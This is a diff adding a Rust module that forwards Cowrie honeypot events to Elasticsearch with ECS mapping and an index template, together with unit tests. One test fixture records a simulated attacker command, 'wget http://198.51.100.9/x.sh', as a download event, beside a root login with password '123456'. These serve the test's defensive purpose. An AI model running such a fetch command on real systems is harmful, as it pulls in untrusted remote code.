@@ -0,0 +1,504 @@
+//! Forwarding events to a SIEM (`[siem_integration]`)
+//!
+//! Only Elasticsearch (`siem_type = "elk"`) is spoken so far. Ingested
+//! entries are batched and sent to `<siem_url>/<index>/_bulk` every
+//! `send_interval` seconds, or as soon as `batch_size` are waiting. With
+//! `ecs = true`, each document is the entry mapped to the Elastic Common
+//! Schema as the `ecs` export maps it (see [`ecs_document`]), with the
+//! honeypot's name as `observer.name`. Before the first batch, an index
+//! template giving those fields their ECS types is installed, so Kibana's
+//! ECS dashboards work on the index as they are.
+
+use anyhow::{Context, Result};
+use log::{debug, info, warn};
+use serde_json::{json, Value};
+use std::collections::VecDeque;
+use std::time::Duration;
+use tokio::sync::broadcast::{self, error::RecvError};
+use tokio::task::JoinHandle;
+
+use crate::app::AppEvent;
+use crate::config::{Config, SIEMIntegrationConfig};
+use crate::core::export::{ecs_document, ECS_VERSION};
+use crate::core::TaskReporter;
+use crate::data::{LogEntry, Session, StoreHandle};
+
+/// Batches kept while the SIEM is unreachable; older entries are dropped
+const MAX_PENDING_BATCHES: usize = 10;
+
+/// Seconds to wait for Elasticsearch to answer a request
+const REQUEST_TIMEOUT: Duration = Duration::from_secs(30);
+
+/// Where and how entries are sent
+struct ElasticSender {
+    /// HTTP client, with the timeout set
+    client: reqwest::Client,
+    /// `siem_integration`
+    config: SIEMIntegrationConfig,
+    /// `siem_url` without a trailing slash
+    url: String,
+    /// `honeypot.name`, reported as `observer.name`
+    observer: String,
+    /// Whether the index template is in place (or not wanted)
+    template_installed: bool,
+}
+
+/// Start forwarding ingested entries to `siem_integration.siem_url`
+///
+/// Fails for SIEM types other than `elk`. Abort the returned task to stop
+/// forwarding; entries not yet sent are lost.
+pub fn start_siem_sender(
+    config: &Config,
+    event_tx: broadcast::Sender<AppEvent>,
+    store: StoreHandle,
+    reporter: TaskReporter,
+) -> Result<JoinHandle<()>> {
+    let siem = &config.siem_integration;
+    if siem.siem_type != "elk" {
+        anyhow::bail!("SIEM type '{}' is not supported yet; only \"elk\" is forwarded to", siem.siem_type);
+    }
+    let url = siem.siem_url.as_deref()
+        .context("siem_integration.siem_url is not set")?
+        .trim_end_matches('/')
+        .to_string();
+    let client = reqwest::Client::builder()
+        .timeout(REQUEST_TIMEOUT)
+        .user_agent(concat!("xkippo-tui/", env!("CARGO_PKG_VERSION")))
+        .build()
+        .context("Failed to set up the SIEM client")?;
+    info!("Forwarding events to Elasticsearch at {} (index {})", url, siem.index);
+
+    let mut sender = ElasticSender {
+        client,
+        config: siem.clone(),
+        url,
+        observer: config.honeypot.name.clone(),
+        template_installed: !(siem.ecs && siem.install_template),
+    };
+    let mut events = event_tx.subscribe();
+    let batch_size = siem.batch_size.max(1) as usize;
+    let interval = Duration::from_secs(siem.send_interval.max(1) as u64);
+
+    Ok(tokio::spawn(async move {
+        let mut pending: VecDeque<LogEntry> = VecDeque::new();
+        let mut tick = tokio::time::interval(interval);
+        loop {
+            let due = tokio::select! {
+                event = events.recv() => match event {
+                    Ok(AppEvent::NewLogEntry(entry)) => {
+                        pending.push_back(entry);
+                        pending.len() >= batch_size
+                    }
+                    Ok(AppEvent::Quit) | Err(RecvError::Closed) => break,
+                    Ok(_) => false,
+                    Err(RecvError::Lagged(missed)) => {
+                        warn!("SIEM forwarding fell behind ingestion; {} entries not sent", missed);
+                        false
+                    }
+                },
+                _ = tick.tick() => !pending.is_empty(),
+            };
+            if !due {
+                continue;
+            }
+
+            let store = store.snapshot();
+            while !pending.is_empty() {
+                let count = pending.len().min(batch_size);
+                let documents: Vec<Value> = pending.iter()
+                    .take(count)
+                    .map(|entry| sender.document(entry, store.get_session_for_entry(entry)))
+                    .collect();
+                match sender.send(&documents).await {
+                    Ok(()) => {
+                        pending.drain(..count);
+                    }
+                    Err(e) => {
+                        warn!("Failed to forward events to the SIEM: {:#}", e);
+                        reporter.report_error(format!("{:#}", e));
+                        break;
+                    }
+                }
+            }
+
+            // While the SIEM is down, keep only the newest batches
+            let limit = batch_size * MAX_PENDING_BATCHES;
+            if pending.len() > limit {
+                let dropped = pending.len() - limit;
+                pending.drain(..dropped);
+                warn!("SIEM unreachable; dropped the {} oldest unsent entries", dropped);
+            }
+        }
+    }))
+}
+
+impl ElasticSender {
+    /// Document sent for `entry`
+    fn document(&self, entry: &LogEntry, session: Option<&Session>) -> Value {
+        if !self.config.ecs {
+            return serde_json::to_value(entry).unwrap_or(Value::Null);
+        }
+        let mut document = ecs_document(entry, session);
+        document["observer"]["name"] = json!(self.observer);
+        document
+    }
+
+    /// Index `documents` in one bulk request, installing the template first if needed
+    async fn send(&mut self, documents: &[Value]) -> Result<()> {
+        if !self.template_installed {
+            self.install_template().await?;
+            self.template_installed = true;
+        }
+
+        let mut body = String::new();
+        for document in documents {
+            body.push_str("{\"create\":{}}\n");
+            body.push_str(&document.to_string());
+            body.push('\n');
+        }
+
+        let response = self.request(reqwest::Method::POST, &format!("{}/{}/_bulk", self.url, self.config.index))
+            .header(reqwest::header::CONTENT_TYPE, "application/x-ndjson")
+            .body(body)
+            .send()
+            .await
+            .context(format!("Failed to reach {}", self.url))?
+            .error_for_status()
+            .context("Elasticsearch refused the batch")?;
+
+        // A bulk request succeeds as a whole even when some documents fail
+        let result: Value = response.json().await.context("Elasticsearch answered with something other than JSON")?;
+        if result["errors"].as_bool() == Some(true) {
+            let failed: Vec<&Value> = result["items"].as_array().into_iter().flatten()
+                .map(|item| &item["create"]["error"])
+                .filter(|error| !error.is_null())
+                .collect();
+            warn!(
+                "Elasticsearch rejected {} of {} documents; first error: {}",
+                failed.len(),
+                documents.len(),
+                failed.first().map_or_else(String::new, |error| error.to_string())
+            );
+        }
+        debug!("Forwarded {} events to the SIEM", documents.len());
+        Ok(())
+    }
+
+    /// Put the index template for `index*`, so the ECS fields get their types
+    async fn install_template(&self) -> Result<()> {
+        let name = format!("{}-ecs", self.config.index);
+        self.request(reqwest::Method::PUT, &format!("{}/_index_template/{}", self.url, name))
+            .json(&index_template(&self.config.index))
+            .send()
+            .await
+            .context(format!("Failed to reach {}", self.url))?
+            .error_for_status()
+            .context(format!("Elasticsearch refused the index template {}", name))?;
+        info!("Installed Elasticsearch index template {}", name);
+        Ok(())
+    }
+
+    /// A request to Elasticsearch, authenticated with `auth_token` as an API key
+    fn request(&self, method: reqwest::Method, url: &str) -> reqwest::RequestBuilder {
+        let request = self.client.request(method, url);
+        match &self.config.auth_token {
+            Some(token) => request.header(reqwest::header::AUTHORIZATION, format!("ApiKey {}", token)),
+            None => request,
+        }
+    }
+}
+
+/// Index template giving the fields [`ecs_document`] writes their ECS types
+///
+/// Fields not listed are mapped dynamically. `index` is also written to as
+/// a data stream, hence the `create` bulk actions.
+fn index_template(index: &str) -> Value {
+    let keyword = json!({ "type": "keyword", "ignore_above": 1024 });
+    let text_keyword = json!({
+        "type": "keyword",
+        "ignore_above": 1024,
+        "fields": { "text": { "type": "match_only_text" } },
+    });
+
+    json!({
+        "index_patterns": [format!("{}*", index)],
+        "data_stream": {},
+        "priority": 200,
+        "_meta": { "description": "Cowrie events from xkippo-tui", "ecs_version": ECS_VERSION },
+        "template": {
+            "mappings": {
+                "properties": {
+                    "@timestamp": { "type": "date" },
+                    "ecs": { "properties": { "version": keyword } },
+                    "event": { "properties": {
+                        "kind": keyword, "category": keyword, "type": keyword, "action": keyword,
+                        "dataset": keyword, "module": keyword, "id": keyword, "outcome": keyword,
+                        "risk_score": { "type": "float" },
+                        "duration": { "type": "long" },
+                    } },
+                    "observer": { "properties": {
+                        "name": keyword, "type": keyword, "vendor": keyword, "product": keyword,
+                    } },
+                    "source": { "properties": {
+                        "ip": { "type": "ip" },
+                        "port": { "type": "long" },
+                        "geo": { "properties": {
+                            "country_iso_code": keyword, "country_name": keyword, "city_name": keyword,
+                            "location": { "type": "geo_point" },
+                        } },
+                        "as": { "properties": { "number": { "type": "long" } } },
+                    } },
+                    "destination": { "properties": {
+                        "ip": { "type": "ip" },
+                        "port": { "type": "long" },
+                    } },
+                    "network": { "properties": { "transport": keyword, "protocol": keyword } },
+                    "user_agent": { "properties": { "original": text_keyword } },
+                    "user": { "properties": { "name": text_keyword } },
+                    "process": { "properties": { "command_line": text_keyword, "name": keyword } },
+                    "file": { "properties": {
+                        "name": keyword, "path": text_keyword, "size": { "type": "long" },
+                        "mime_type": keyword,
+                        "hash": { "properties": { "sha256": keyword } },
+                    } },
+                    "url": { "properties": { "original": text_keyword } },
+                    "tags": keyword,
+                    "threat": { "properties": {
+                        "indicator": { "properties": {
+                            "type": keyword,
+                            "ip": { "type": "ip" },
+                            "first_seen": { "type": "date" },
+                            "file": { "properties": { "hash": { "properties": { "sha256": keyword } } } },
+                        } },
+                        "framework": keyword,
+                        "technique": { "properties": { "id": keyword, "name": text_keyword } },
+                    } },
+                    "cowrie": { "properties": {
+                        "session": keyword, "password": keyword,
+                        "duration": { "type": "long" }, "active_duration": { "type": "long" },
+                    } },
+                },
+            },
+        },
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::core::TaskHealth;
+    use crate::data::testing::{at, command, connect, eventually, session};
+    use crate::data::{EventType, FileTransfer, FileTransferDirection, GeoLocation, Store, WhitelistFilter};
+    use parking_lot::Mutex;
+    use pretty_assertions::assert_eq;
+    use std::sync::Arc;
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    use tokio::net::TcpListener;
+
+    /// Method, path and body of each request an Elasticsearch stand-in got
+    type Requests = Arc<Mutex<Vec<(String, String, String)>>>;
+
+    /// Answer every request on a free port as Elasticsearch would a successful one
+    async fn elasticsearch() -> (String, Requests) {
+        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let url = format!("http://{}", listener.local_addr().unwrap());
+        let requests = Requests::default();
+        let received = requests.clone();
+        tokio::spawn(async move {
+            loop {
+                let (mut stream, _) = listener.accept().await.unwrap();
+                let mut request = Vec::new();
+                let mut buffer = [0; 4096];
+                let (head, length) = loop {
+                    let read = stream.read(&mut buffer).await.unwrap();
+                    request.extend_from_slice(&buffer[..read]);
+                    let text = String::from_utf8_lossy(&request);
+                    if let Some((head, _)) = text.split_once("\r\n\r\n") {
+                        let length = head.lines()
+                            .find_map(|line| line.to_lowercase().strip_prefix("content-length: ").map(str::to_string))
+                            .map_or(0, |length| length.parse().unwrap());
+                        break (head.to_string(), length);
+                    }
+                };
+                while request.len() < head.len() + 4 + length {
+                    let read = stream.read(&mut buffer).await.unwrap();
+                    request.extend_from_slice(&buffer[..read]);
+                }
+                let body = String::from_utf8_lossy(&request[head.len() + 4..]).to_string();
+                let mut request_line = head.split(' ');
+                let (method, path) = (request_line.next().unwrap(), request_line.next().unwrap());
+                received.lock().push((method.to_string(), path.to_string(), body));
+
+                let answer = "{\"errors\":false,\"items\":[]}";
+                let response = format!(
+                    "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{}",
+                    answer.len(),
+                    answer
+                );
+                stream.write_all(response.as_bytes()).await.unwrap();
+            }
+        });
+        (url, requests)
+    }
+
+    /// Forward to `url` one entry at a time, as honeypot "hp1"
+    fn config(url: &str, ecs: bool) -> Config {
+        let mut config = Config::default();
+        config.honeypot.name = "hp1".to_string();
+        config.siem_integration.siem_url = Some(url.to_string());
+        config.siem_integration.batch_size = 1;
+        config.siem_integration.ecs = ecs;
+        config
+    }
+
+    /// Start the sender for `config` and hand it `entries`
+    async fn forward(config: &Config, entries: Vec<LogEntry>) -> JoinHandle<()> {
+        let (store, _writer) = StoreHandle::spawn(
+            Store::new(config).unwrap(),
+            WhitelistFilter::from_config(config),
+            None,
+            Duration::from_secs(60),
+        );
+        let (event_tx, _) = broadcast::channel(16);
+        let reporter = TaskHealth::new().register("SIEM sender", false);
+        let task = start_siem_sender(config, event_tx.clone(), store, reporter).unwrap();
+        for entry in entries {
+            event_tx.send(AppEvent::NewLogEntry(entry)).unwrap();
+        }
+        task
+    }
+
+    /// Documents of a bulk request body
+    fn documents(body: &str) -> Vec<Value> {
+        body.lines()
+            .filter(|line| *line != "{\"create\":{}}")
+            .map(|line| serde_json::from_str(line).unwrap())
+            .collect()
+    }
+
+    #[tokio::test]
+    async fn the_template_is_put_once_before_the_first_batch() {
+        let (url, requests) = elasticsearch().await;
+        let entries = vec![connect("a1", "203.0.113.7", at(0)), command("a1", "203.0.113.7", "uname -a", at(5))];
+        let task = forward(&config(&url, true), entries).await;
+        eventually(|| requests.lock().len() == 3).await;
+        task.abort();
+
+        let requests = requests.lock();
+        let paths: Vec<(&str, &str)> = requests.iter().map(|(method, path, _)| (method.as_str(), path.as_str())).collect();
+        assert_eq!(paths, [
+            ("PUT", "/_index_template/xkippo-cowrie-ecs"),
+            ("POST", "/xkippo-cowrie/_bulk"),
+            ("POST", "/xkippo-cowrie/_bulk"),
+        ]);
+
+        let template: Value = serde_json::from_str(&requests[0].2).unwrap();
+        assert_eq!(template, index_template("xkippo-cowrie"));
+
+        let sent: Vec<Value> = requests[1..].iter().flat_map(|(_, _, body)| documents(body)).collect();
+        assert_eq!(sent.len(), 2);
+        assert_eq!(sent[0]["event"]["action"], "cowrie.session.connect");
+        assert_eq!(sent[1]["process"]["command_line"], "uname -a");
+        for document in &sent {
+            assert_eq!(document["observer"]["name"], "hp1");
+            assert_eq!(document["ecs"]["version"], ECS_VERSION);
+        }
+    }
+
+    #[tokio::test]
+    async fn without_ecs_entries_are_sent_as_stored_and_no_template_is_put() {
+        let (url, requests) = elasticsearch().await;
+        let entry = command("a1", "203.0.113.7", "uname -a", at(5));
+        let task = forward(&config(&url, false), vec![entry.clone()]).await;
+        eventually(|| requests.lock().len() == 1).await;
+        task.abort();
+
+        let requests = requests.lock();
+        assert_eq!(requests[0].1, "/xkippo-cowrie/_bulk");
+        assert_eq!(documents(&requests[0].2), [serde_json::to_value(&entry).unwrap()]);
+    }
+
+    #[test]
+    fn the_template_matches_the_index_and_maps_ecs_types() {
+        let template = index_template("honeypot");
+        assert_eq!(template["index_patterns"], json!(["honeypot*"]));
+        assert_eq!(template["_meta"]["ecs_version"], ECS_VERSION);
+
+        let properties = &template["template"]["mappings"]["properties"];
+        assert_eq!(properties["@timestamp"]["type"], "date");
+        assert_eq!(properties["source"]["properties"]["ip"]["type"], "ip");
+        assert_eq!(properties["source"]["properties"]["geo"]["properties"]["location"]["type"], "geo_point");
+        assert_eq!(properties["event"]["properties"]["risk_score"]["type"], "float");
+        assert_eq!(properties["user"]["properties"]["name"]["type"], "keyword");
+        assert_eq!(properties["process"]["properties"]["command_line"]["fields"]["text"]["type"], "match_only_text");
+    }
+
+    #[test]
+    fn every_field_of_a_document_is_in_the_template() {
+        let mut attacker = session("a1", "203.0.113.7", at(0));
+        attacker.client_version = Some("SSH-2.0-Go".to_string());
+        attacker.geo_location = Some(GeoLocation {
+            country_code: "NL".to_string(),
+            country_name: "Netherlands".to_string(),
+            city: Some("Amsterdam".to_string()),
+            latitude: Some(52.37),
+            longitude: Some(4.89),
+            asn: Some("AS1136".to_string()),
+            isp: None,
+        });
+        attacker.tags = vec!["bruteforce".to_string()];
+        attacker.techniques = vec!["T1110.001".to_string()];
+        attacker.malicious_score = 85;
+        attacker.duration = Some(93);
+
+        let mut login = command("a1", "203.0.113.7", "uname -a", at(5));
+        login.event_type = EventType::LoginSuccess;
+        login.username = Some("root".into());
+        login.password = Some("123456".to_string());
+        let mut download = command("a1", "203.0.113.7", "wget http://198.51.100.9/x.sh", at(9));
+        download.event_type = EventType::FileDownload;
+        download.fields.insert("url".to_string(), json!("http://198.51.100.9/x.sh"));
+        download.file = Some(FileTransfer {
+            filename: "x.sh".to_string(),
+            local_path: Some("var/lib/cowrie/downloads/x".to_string()),
+            size: Some(120),
+            shasum: Some("ab12".to_string()),
+            timestamp: at(9),
+            direction: FileTransferDirection::Download,
+            mime_type: Some("text/x-shellscript".to_string()),
+            is_executable: false,
+            is_malware: false,
+            hash_list: None,
+        });
+        let mut close = connect("a1", "203.0.113.7", at(93));
+        close.event_type = EventType::Disconnect;
+
+        let sender = ElasticSender {
+            client: reqwest::Client::new(),
+            config: SIEMIntegrationConfig::default(),
+            url: String::new(),
+            observer: "hp1".to_string(),
+            template_installed: false,
+        };
+        let properties = &index_template("cowrie")["template"]["mappings"]["properties"];
+        for entry in [connect("a1", "203.0.113.7", at(0)), login, download, close] {
+            let document = sender.document(&entry, Some(&attacker));
+            for field in leaf_fields(&document, "") {
+                let mapping = field.split('.')
+                    .try_fold(properties, |mapping, name| mapping.get(name).map(|field| &field["properties"]));
+                assert!(mapping.is_some(), "{} of a {} document isn't mapped", field, entry.eventid);
+            }
+        }
+    }
+
+    /// Dotted paths of the fields in `document` that hold values
+    fn leaf_fields(document: &Value, prefix: &str) -> Vec<String> {
+        match document {
+            // Geo points are an object with one mapping
+            Value::Object(fields) if !fields.contains_key("lat") => fields.iter()
+                .flat_map(|(name, value)| leaf_fields(value, &format!("{}{}.", prefix, name)))
+                .collect(),
+            _ => vec![prefix.trim_end_matches('.').to_string()],
+        }
+    }
+}